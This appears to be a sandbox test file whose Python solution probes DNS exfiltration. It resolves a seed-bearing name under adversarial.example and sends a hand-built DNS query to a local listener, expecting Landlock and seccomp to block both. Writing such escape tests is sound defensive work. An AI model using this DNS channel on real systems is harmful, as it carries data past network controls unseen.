# expect: WA
# threat: (3) DNS: resolve names (a DNS query can carry data out even where TCP is blocked), both
#   through the C library (getaddrinfo, gethostbyname) and as a hand-made DNS query sent to the
#   suite's UDP listener on 127.0.0.1:47012 as if it were a resolver.
# why: the C resolver cannot read /etc/hosts or /etc/resolv.conf (Landlock) nor open a socket
#   (seccomp), so lookups fail with socket.gaierror; the hand-made query fails at socket(2). All
#   errors are caught and the solution returns 0 (WA); a resolved name raises "LEAK" (RE).
import socket
import struct


class Vault:
    def open(self, seed):
        resolved = []
        for name in ("localhost", "example.com", f"seed-{seed}.adversarial.example"):
            try:
                resolved.append((name, socket.getaddrinfo(name, 53)[0][4]))
            except OSError:
                pass
            try:
                resolved.append((name, socket.gethostbyname(name)))
            except OSError:
                pass
        query = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0) + b"\x04seed\x07example\x00" + struct.pack(">HH", 1, 1)
        try:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
                sock.sendto(query, ("127.0.0.1", 47012))
            resolved.append(("query", "sent"))
        except OSError:
            pass
        if resolved:
            raise RuntimeError(f"LEAK: {resolved}")
        return 0
